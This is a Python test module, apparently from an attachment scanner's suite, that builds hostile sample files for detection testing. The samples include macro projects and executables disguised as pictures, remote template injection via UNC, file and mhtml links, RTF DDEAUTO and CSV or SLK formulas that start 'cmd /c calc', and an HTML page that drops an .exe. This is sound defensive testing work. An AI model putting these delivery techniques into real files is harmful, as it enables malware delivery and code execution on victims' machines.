"""Files that carry what acts under another name or at another place than usual (threats 21, 25, 26; incident 73)."""

import struct
from collections.abc import Iterator

from tests.builders.ole import ole
from tests.builders.word_xml import OFFICE, PACKAGE, p, xml
from tests.hostile.case import Case, attached, good_form
from tests.hostile.zips import STORED, Item, zip_of

MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
PROGRAM = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200)
PROJECT = ole({"VBA": {"dir": b"x", "_VBA_PROJECT": b"x"}, "PROJECT": b"x"})
OBJECT = ole({"\x01Ole10Native": b"words"})
SHEET = zip_of(Item("xl/workbook.xml", b"<workbook/>"), Item("xl/vbaProject.bin", PROJECT))
ODT = Item("mimetype", b"application/vnd.oasis.opendocument.text", STORED)
LOCKED = 1
RTF_OBJECT = b"{\\rtf1{\\object\\objem\r\nb{\\*\\obj\r\ndata %s}}}"
SCRIPT = b'<html><script>saveAs(new Blob([atob("TVqQ")]),"x.exe")</script></html>'


def carrying_cases() -> Iterator[Case]:
    """Give the cases of packages, RTF, locked zips, pages and texts."""
    for name, made in (
        ("macros-elsewhere", _word(_refers(f"{MICROSOFT}/vbaProject", "a.dat"), Item("word/a.dat", b"x"))),
        ("macros-as-a-picture", _word(Item("word/media/a.png", PROJECT))),
        ("object-elsewhere", _word(_refers(f"{OFFICE}/oleObject", "a/x.jpg"), Item("word/a/x.jpg", OBJECT))),
        ("object-called-dat", _word(Item("word/embeddings/oleObject1.dat", OBJECT))),
        ("program-as-a-picture", _word(Item("word/media/x.png", PROGRAM))),
        ("program-by-its-name", _word(Item("word/embeddings/x.exe", PROGRAM))),
        ("sheet-with-macros-inside", _word(Item("word/embeddings/s.xlsm", SHEET))),
        ("form-inside", _word(Item("word/embeddings/d.docx", good_form()))),
        ("template-on-a-share", _template("file:///\\\\127.0.0.1\\a.dotm")),
        ("template-by-unc", _template("file:///\\\\?\\UNC\\127.0.0.1\\a.dotm")),
        ("template-by-host", _template("file://127.0.0.1/share/a.dotm")),
        ("template-by-mhtml", _template("mhtml:http://127.0.0.1:9/a!x-usc:http://127.0.0.1:9/a")),
        ("header-fetches", _word(_refers(f"{OFFICE}/oleObject", "http://127.0.0.1:9/p.hta", "header1", outside=True))),
        ("frames-fetch", _word(_refers(f"{OFFICE}/frame", "http://127.0.0.1:9/p.hta", "webSettings", outside=True))),
    ):  # fmt: skip
        yield attached(f"word-{name}", "threats 25, 26", lambda made=made: made)
    for name, called, data in (
        ("sheet-with-macros", "a.xlsm", SHEET),
        ("sheet-with-macros-called-xlsx", "a.xlsx", SHEET),
        ("sheet-with-macros-called-docx", "a.docx", SHEET),
        ("sheet-with-macros-called-xlam", "a.xlam", SHEET),
        ("odt-with-macros", "a.odt", zip_of(ODT, Item("Basic/Standard/Module1.xml", b"<x/>"))),
        ("rtf-template-from-afar", "a.rtf", b"{\\rtf1{\\*\\template http://127.0.0.1:9/a.rtf}words}"),
        ("rtf-program-in-pieces", "a.rtf", RTF_OBJECT % PROGRAM.hex().encode()),
        ("rtf-dde", "a.rtf", b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}}}'),
        ("rtf-short-head", "a.rtf", b"{\\rt{\\object\\objocx{\\*\\objdata 00}}}"),
        ("zip-locked-with-a-program", "a.zip", zip_of(Item("invoice.exe", b"x" * 90, flags=LOCKED))),
        ("page-that-builds-a-file", "a.html", SCRIPT),
        ("page-with-a-script", "a.html", b"<html><script>document.write(1)</script></html>"),
        ("drawing-with-a-script", "a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("query", "a.iqy", b"WEB\r\n1\r\nhttp://127.0.0.1:9/"),
        ("query-called-txt", "a.txt", b"WEB\r\n1\r\nhttp://127.0.0.1:9/"),
        ("connection", "a.rdp", b"full address:s:127.0.0.1\r\n"),
        ("search", "a.search-ms", b"words"),
        ("shortcut-to-a-share", "a.txt", b"[InternetShortcut]\r\nURL=file://127.0.0.1/x"),
        ("table-that-starts-a-program", "a.csv", b"=cmd|'/c calc'!A1\r\n"),
        ("table-of-old", "a.slk", b'ID;P\r\nC;X1;Y1;EEXEC("calc")\r\n'),
        ("one-note-called-dat", "a.dat", b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d" + bytes(90)),
        ("card", "a.vcf", b"BEGIN:VCARD\r\nFN:Orla Example\r\nEND:VCARD\r\n"),
        ("invitation", "a.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n"),
    ):
        yield attached(f"carries-{name}", "threats 21, 26", lambda data=data: data, called=called)


def _word(*items: Item) -> bytes:
    """Return a Word file with more parts."""
    return zip_of(Item("word/document.xml", xml(p("words"))), *items)


def _refers(kind: str, target: str, source: str = "document", *, outside: bool = False) -> Item:
    mode = ' TargetMode="External"' if outside else ""
    told = f'<Relationship Id="rId1" Type="{kind}" Target="{target}"{mode}/>'
    return Item(f"word/_rels/{source}.xml.rels", f'<Relationships xmlns="{PACKAGE}">{told}</Relationships>'.encode())


def _template(target: str) -> bytes:
    return _word(_refers(f"{OFFICE}/attachedTemplate", target, "settings", outside=True))
